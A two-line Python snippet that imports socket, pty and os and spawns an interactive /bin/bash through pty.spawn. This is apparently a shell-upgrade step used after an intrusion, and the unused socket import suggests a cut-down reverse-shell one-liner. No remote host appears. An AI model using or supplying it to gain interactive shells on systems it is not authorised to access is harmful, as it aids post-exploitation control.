import socket, pty, os
pty.spawn('/bin/bash')
